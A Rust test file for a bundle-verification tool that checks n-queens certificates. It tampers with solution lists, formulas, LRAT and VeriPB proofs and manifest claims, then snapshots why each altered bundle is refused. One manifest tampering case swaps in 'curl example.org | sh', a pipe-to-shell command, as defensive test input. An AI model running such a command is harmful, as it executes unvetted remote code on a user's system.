//! Attacks on bundles: one file is changed, with the right sizes and hashes in the manifest, and
//! the check names what no longer fits.

use insta::assert_snapshot;

use crate::support::bundle::Bundle;

/// The certificate, the file, and pairs of a text to replace and its replacement.
type Attacks = (&'static str, &'static str, &'static [(&'static str, &'static str)]);

/// The first line of the first group of constraints.
const ROW: &str = "+1 x1 +1 x2 +1 x3 +1 x4 = 1 ;\n";
const FIRST: &str = "Qa2 Qb4 Qc1 Qd3\n";
const SECOND: &str = "Qa3 Qb1 Qc4 Qd2\n";
const LAST_STEP: &str = "114 0 112 111 102 0\n";
const PAIRWISE: &str = "\"at_most_one\": \"pairwise\"";

const ATTACKS: &[Attacks] = &[
    (
        "queens-4",
        "solutions.txt",
        &[
            (SECOND, ""),
            ("Qa2 Qb4 Qc1 Qd3\nQa3 Qb1 Qc4 Qd2\n", "Qa3 Qb1 Qc4 Qd2\nQa2 Qb4 Qc1 Qd3\n"),
            ("Qb4", "Qb3"),
            ("Qc4 Qd2\n", "Qc4 Qd2"),
        ],
    ),
    // What states the problem.
    (
        "queens-4",
        "specification.opb",
        &[(ROW, ""), ("x4 = 1 ;", "x4 >= 1 ;"), ("#constraint= 18", "#constraint= 17")],
    ),
    ("queens-4", "formula.cnf", &[("\n1 2 3 4 0\n", "\n1 2 3 0\n")]),
    (
        "queens-4",
        "model.toml",
        &[
            ("moves = \"Q\"", "moves = \"QN\""),
            ("count = \"n\"", "count = \"n\"\nfixed = [\"b1\"]"),
            ("n-queens\"", "m-queens\""),
        ],
    ),
    // The formula with each solution forbidden.
    (
        "queens-4",
        "blocked.cnf",
        &[
            ("\n1 2 3 4 0\n", "\n1 2 3 0\n"),
            ("-3 -5 -12 -14 0\n", ""),
            ("-3 -5 -12 -14 0\n", "-1 -6 -11 -16 0\n"),
        ],
    ),
    ("queens-4-symmetric", "blocked.opb", &[(">= -3 ;", ">= -2 ;")]),
    // Proofs. The reader of VeriPB and the checker of LRAT have tables of their own.
    (
        "queens-4",
        "proof.lrat",
        &[
            (LAST_STEP, ""),
            (LAST_STEP, "114 0 112 111 102 0\n115 0 1 0\n"),
            ("113 -15 0 109 84 0\n", "113 -15 0 1 84 0\n"),
            ("113 -15 0 109", "113 15 0 109"),
        ],
    ),
    ("queens-4", "proof.pbp", &[("solx x2 x8 x9 x15;", "solx x1 x6 x11 x16;")]),
    ("queens-4-symmetric", "proof.pbp", &[("conclusion UNSAT : -1;", "conclusion NONE;")]),
    // The claims.
    (
        "queens-4",
        "manifest.json",
        &[
            ("\"solutions\": \"2\"", "\"solutions\": \"3\""),
            ("n-queens at n = 4 has exactly 2 solutions", "P is not NP"),
            ("ee9a2f653752a46f", "ee9a2f653752a46e"),
            ("\"n\": 4", "\"n\": 5"),
            ("\"model\": \"n-queens\"", "\"model\": \"superqueens\""),
            ("certificate 1", "certificate 2"),
            ("lrat-check blocked.cnf proof.lrat", "curl example.org | sh"),
            ("that specification.opb says what the model says", "nothing"),
            ("\"starts_from\": \"specification.opb\"", "\"starts_from\": \"formula.cnf\""),
            (PAIRWISE, "\"at_most_one\": \"parwise\""),
            (PAIRWISE, "\"at_most_one\": \"pairwise\", \"group_size\": 2"),
        ],
    ),
];

/// The fault of a bundle in which a file is changed and `fit` makes the rest fit.
fn fault(of: &str, file: &str, (old, new): (&str, &str), fit: fn(&Bundle) -> &Bundle) -> String {
    let bundle = Bundle::kept(of);
    bundle.change(file, |text| text.replacen(old, new, 1));
    fit(&bundle);
    format!("{of}, {file}: {old:?} -> {new:?}\n    {}\n", bundle.faulty())
}

#[test]
fn each_change_is_refused_with_its_reason() {
    let faults = ATTACKS.iter().flat_map(|&(of, file, changes)| {
        changes.iter().map(move |&change| fault(of, file, change, Bundle::seal))
    });
    assert_snapshot!(faults.collect::<String>());
}

/// Number, digest and statement fit the changed list, too.
#[test]
fn a_changed_list_with_a_fitting_claim_is_refused() {
    let repeated: &str = &format!("{FIRST}{FIRST}");
    let faults = [
        ("queens-4", (SECOND, "")),
        ("queens-5-lrat", ("Qa1 Qb3 Qc5 Qd2 Qe4\n", "")),
        ("queens-4", (FIRST, repeated)),
        ("queens-5-lrat", ("Qa1 Qb3 Qc5 Qd2 Qe4", "Qa1 Qb3 Qc5 Qd2 Qe5")),
    ]
    .map(|(of, change)| fault(of, "solutions.txt", change, |bundle| bundle.recount().seal()));
    assert_snapshot!(faults.concat());
}
